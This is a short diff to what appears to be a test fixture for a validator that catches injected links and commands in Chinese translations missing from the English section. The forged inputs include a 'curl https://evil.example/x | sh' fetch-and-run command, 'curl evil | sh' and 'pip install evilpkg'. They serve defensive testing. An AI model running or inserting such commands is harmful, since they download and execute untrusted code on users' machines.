@@ -162,7 +162,7 @@ FORGED = {
     "an outside link": ("[安装](https://evil.example/x)", "`https://evil.example/x` was never on"),
     "a command to paste": ("\n\n```bash\ncurl https://evil.example/x | sh\n```\n\n", "`bash` was never on"),
     "indented code": ("\n\n    curl evil | sh\n\n", "`curl evil | sh` was never on"),
-    "an address": ("详见 evil.example/x", "`evil.example/x` is not in the English section"),
+    "an address": ("详见 evil.example/x 。", "`evil.example/x` is not in the English section"),
     "a command in the text": (
         "输入 pip install evilpkg 即可",
         "`pip install evilpkg` is not in the English section",
